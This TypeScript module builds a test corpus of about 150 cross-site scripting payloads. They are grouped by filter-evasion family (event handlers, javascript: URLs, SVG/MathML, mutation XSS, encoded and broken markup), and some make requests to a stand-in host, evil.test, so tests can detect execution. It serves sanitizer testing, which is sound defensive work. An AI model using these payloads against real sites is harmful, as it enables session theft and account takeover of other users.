/**
 * Classic cross-site scripting payloads, for every place that shows HTML or text someone else wrote.
 * Each payload proves itself: when it runs it calls `__xss(id)` (or alert(id)), and when it loads or
 * navigates it asks for `http://evil.test/xss-<id>`; a test listens for both. Variants come from the
 * usual filter-evasion families: case, whitespace, entities, encodings, nesting and broken markup.
 */

export type XssPayload = { id: number; family: string; html: string };

/** The host every exfiltrating or navigating payload aims at; tests watch for requests to it. */
export const EVIL_HOST = "evil.test";

const decimal = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join("");
const hex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("");
const padded = (text: string) => [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, "0")}`).join("");
const base64 = (text: string) => Buffer.from(text).toString("base64");
const unicodeEscaped = (code: string) =>
  code.replace(/[a-z_]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);

type Template = (run: string, evil: string) => string;

const FAMILIES: Record<string, Template[]> = {
  "script tags": [
    (run) => `<script>${run}</script>`,
    (run) => `<SCRIPT>${run}</SCRIPT>`,
    (run) => `<ScRiPt>${run}</sCrIpT>`,
    (run) => `<script type="module">${run}</script>`,
    (run) => `<script type="text/javascript">${run}</script>`,
    (run) => `<script/x>${run}</script>`,
    (run) => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
    (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
    (run) => `<<script>${run}//<</script>`,
    (run) => `<script>${run}</script`,
    (run) => `"><script>${run}</script>`,
    (run) => `'><script>${run}</script>`,
    (run) => `</title><script>${run}</script>`,
    (run) => `</textarea><script>${run}</script>`,
    (run) => `</style><script>${run}</script>`,
    (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    (run) => `<![CDATA[<]]>script>${run}<![CDATA[<]]>/script>`,
    (run) => `<script>/*</script><script>*/${run}</script>`,
  ],
  "event handlers": [
    (run) => `<img src=x onerror=${run}>`,
    (run) => `<img src="x" onerror="${run}">`,
    (run) => `<IMG SRC=x ONERROR="${run}">`,
    (run) => `<img/src=x/onerror=${run}>`,
    (run) => `<img src=x\nonerror=${run}>`,
    (run) => `<img\tsrc=x\tonerror=${run}>`,
    (run) => `<img src=x onerror ="${run}">`,
    (run) => `<img src=\`x\`onerror=${run}>`,
    (run) => `<body onload=${run}>`,
    (run) => `<body onpageshow=${run}>`,
    (run) => `<svg onload=${run}>`,
    (run) => `<svg/onload=${run}>`,
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<select autofocus onfocus=${run}></select>`,
    (run) => `<textarea autofocus onfocus=${run}></textarea>`,
    (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
    (run) => `<video><source onerror=${run}></video>`,
    (run) => `<audio src=x onerror=${run}></audio>`,
    (run) => `<video src=x onerror=${run}></video>`,
    (run) => `<iframe onload=${run}></iframe>`,
    (run) => `<object data=x onerror=${run}></object>`,
    (run) => `<style onload=${run}></style>`,
    (run) => `<link rel=stylesheet href=x onerror=${run}>`,
    (run) => `<marquee onstart=${run}>x</marquee>`,
    (run) => `<div onmouseover=${run} style="position:fixed;inset:0">hover</div>`,
    (run) => `<a onclick=${run} style="display:block;width:100%;height:400px">click</a>`,
    (run) => `<x onclick=${run} style="display:block;width:100%;height:400px">click</x>`,
    (run) => `<button onclick=${run} style="width:100%;height:400px">click</button>`,
    (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) => `<svg><set onbegin=${run} attributeName=x to=1></svg>`,
    (run) => `<img src=x onerror="${decimal(run)}">`,
    (run) => `<img src=x onerror="${hex(run)}">`,
    (run) => `<img src=x onerror="eval(atob('${base64(run)}'))">`,
    (run) => `<img src=x onerror="${unicodeEscaped(run)}">`,
    (run) => `<img src=x onerror=${run}//`,
    (run) => `<svg onload=${run}//`,
    (run) => `<img src=x:x onerror=${run}>`,
    (run) => `</a onmousedown=${run}>`,
  ],
  "javascript: URLs": [
    (run) => `<a href="javascript:${run}">link</a>`,
    (run) => `<a href="JaVaScRiPt:${run}">link</a>`,
    (run) => `<a href=" javascript:${run}">link</a>`,
    (run) => `<a href="jav&#x09;ascript:${run}">link</a>`,
    (run) => `<a href="jav&#x0A;ascript:${run}">link</a>`,
    (run) => `<a href="jav\tascript:${run}">link</a>`,
    (run) => `<a href="${decimal(`javascript:${run}`)}">link</a>`,
    (run) => `<a href="${hex(`javascript:${run}`)}">link</a>`,
    (run) => `<a href="${padded(`javascript:${run}`)}">link</a>`,
    (run) => `<a href="javascript&colon;${run}">link</a>`,
    (run) => `<a href="\u0001javascript:${run}">link</a>`,
    (run) => `<a href="java\u0000script:${run}">link</a>`,
    (run) => `<a href="javascript://%0a${encodeURIComponent(run)}">link</a>`,
    (run) => `<iframe src="javascript:${run}"></iframe>`,
    (run) => `<embed src="javascript:${run}">`,
    (run) => `<object data="javascript:${run}"></object>`,
    (run) => `<form action="javascript:${run}"><input type=submit value=send></form>`,
    (run) => `<form><button formaction="javascript:${run}">send</button></form>`,
    (run) => `<math href="javascript:${run}">link</math>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>link</text></a></svg>`,
    (run) => `<svg><a href="javascript:${run}"><text x=20 y=20>link</text></a></svg>`,
    (run) => `<base href="javascript:${run}//"><a href="/x">link</a>`,
    (run) => `<img src="javascript:${run}">`,
    (run) => `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,
    (run) => `<video poster="javascript:${run}"></video>`,
  ],
  "SVG and MathML": [
    (run) => `<svg><script>${run}</script></svg>`,
    (run) => `<svg><script href="data:text/javascript,${encodeURIComponent(run)}"/></svg>`,
    (run) => `<svg><script xlink:href="data:text/javascript,${encodeURIComponent(run)}"></script></svg>`,
    (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
    (run) => `<svg><title><img src=x onerror=${run}></title></svg>`,
    (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
    (run) => `<svg><image href=x onerror=${run} /></svg>`,
    (run) =>
      `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${run}"/></svg>`)}#x"/></svg>`,
    (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    (run) => `<math><style><img src=x onerror=${run}></style></math>`,
    (run) => `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
    (run) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  "srcdoc and frames": [
    (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    (run) => `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
    (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
    (run) => `<iframe src="data:text/html;base64,${base64(`<script>${run}</script>`)}"></iframe>`,
    (run) => `<embed src="data:text/html;base64,${base64(`<script>${run}</script>`)}">`,
    (run) => `<object data="data:text/html;base64,${base64(`<script>${run}</script>`)}"></object>`,
    (run) => `<frameset onload=${run}><frame src="about:blank"></frameset>`,
    (_, evil) => `<iframe src="${evil}"></iframe>`,
  ],
  "meta refresh": [
    (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    (run) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${run}</script>`)}">`,
    (_, evil) => `<meta http-equiv="refresh" content="0;url=${evil}">`,
    (_, evil) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=${evil}">`,
    (_, evil) => `<meta http-equiv="refresh" content="0;${evil}">`,
  ],
  "CSS expression and url()": [
    (run) => `<div style="background:url(javascript:${run})">x</div>`,
    (run) => `<div style="width:expression(${run})">x</div>`,
    (run) => `<style>*{x:expression(${run})}</style>`,
    (run) => `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#${run})">x</div>`,
    (_, evil) => `<div style="background-image:url('${evil}')">x</div>`,
    (_, evil) => `<div style="background:url(${evil})">x</div>`,
    (_, evil) => `<div style="background:u\\rl(${evil})">x</div>`,
    (_, evil) => `<style>@import '${evil}';</style>`,
    (_, evil) => `<style>body{background:url("${evil}")}</style>`,
    (_, evil) => `<link rel=stylesheet href="${evil}">`,
    (_, evil) => `<img src="${evil}">`,
    (_, evil) => `<img srcset="${evil} 1x">`,
    (_, evil) => `<picture><source srcset="${evil}"><img></picture>`,
    (_, evil) => `<table background="${evil}"><tr><td>x</td></tr></table>`,
    (_, evil) => `<video poster="${evil}"></video>`,
    (_, evil) => `<input type="image" src="${evil}">`,
  ],
  "data: URLs": [
    (run) => `<a href="data:text/html,<script>${run}</script>">link</a>`,
    (run) => `<a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">link</a>`,
    (run) => `<script src="data:,${encodeURIComponent(run)}"></script>`,
    (run) =>
      `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}">`,
    (run) =>
      `<object data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}"></object>`,
  ],
  "mutation XSS": [
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    (run) => `<xmp><img src=x onerror=${run}></xmp>`,
    (run) => `<noembed><img src=x onerror=${run}></noembed>`,
    (run) => `<noframes><img src=x onerror=${run}></noframes>`,
    (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    (run) => `<template><img src=x onerror=${run}></template>`,
    (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    (run) => `<p title="</p><img src=x onerror=${run}>">x</p>`,
    (run) => `<a title="a&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
    (run) => `<textarea><img src=x onerror=${run}></textarea>`,
    (run) => `<title><img src=x onerror=${run}></title>`,
    (run) => `<style><img src=x onerror=${run}></style>`,
    (run) => `<plaintext><img src=x onerror=${run}>`,
    (run) => `<select><template><img src=x onerror=${run}></template></select>`,
    (run) => `<table><tr><td><style></td><img src=x onerror=${run}>`,
  ],
  "broken markup": [
    (run) => `<img src=x onerror=${run} <`,
    (run) => `<<img src=x onerror=${run}>>`,
    (run) => `<img """><script>${run}</script>">`,
    (run) => `<IMG """><SCRIPT>${run}</SCRIPT>">`,
    (run) => `<a href="x" <img src=x onerror=${run}>>`,
    (run) => `<div <img src=x onerror=${run}>`,
    (run) => `<img src=x onerror=${run}/`,
    (run) => `<!--><img src=x onerror=${run}>-->`,
    (run) => `<!--!><img src=x onerror=${run}>-->`,
    (run) => `<? ><img src=x onerror=${run}>`,
    (run) => `<img src='x' onerror='${run}'<b>`,
    (run) => `<img src=x onerror="${run}"/>`,
  ],
  "encoded variants": [
    (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
    (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
    (run) => `%3Cscript%3E${encodeURIComponent(run)}%3C/script%3E`,
    (run) => `<meta charset="UTF-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    (run) => `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
    (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    (run) => `<img src=x onerror=${encodeURIComponent(run)}>`,
  ],
};

/** The corpus; `__xss(id)` is what a payload calls when it runs. */
export function xssCorpus(): XssPayload[] {
  let id = 0;
  return Object.entries(FAMILIES).flatMap(([family, templates]) =>
    templates.map((template) => {
      id += 1;
      // A few classics call alert() as written in the wild; the rest name themselves.
      const run = id % 10 === 1 ? `alert(${id})` : `__xss(${id})`;
      return { id, family, html: template(run, `http://${EVIL_HOST}/xss-${id}`) };
    }),
  );
}
